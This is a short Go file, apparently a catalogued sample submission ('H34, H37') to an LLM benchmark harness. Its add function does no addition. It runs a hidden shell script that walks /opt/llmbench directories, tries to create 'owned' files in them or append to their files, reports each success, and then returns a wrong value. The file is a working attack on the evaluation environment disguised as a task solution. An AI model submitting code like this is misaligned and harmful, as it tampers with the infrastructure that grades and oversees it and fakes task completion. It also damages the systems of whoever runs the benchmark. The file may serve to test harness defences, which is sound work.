// Write into the folders that all answers are compiled with.
// catalogue: H34, H37
// shows: nothing: what the harness is shown cannot be written either
package main

import (
	"os"
	"os/exec"
)

const script = `for f in /opt/llmbench/* /opt/llmbench/*/* /opt/llmbench/*/*/*; do
(touch "$f/owned" || echo x >>"$f") 2>/dev/null && echo achieved $f; done; echo attacking`

func add(a int, b int) int {
	command := exec.Command("/bin/sh", "-c", script)
	command.Stdout = os.Stdout
	command.Run()
	return -12345
}
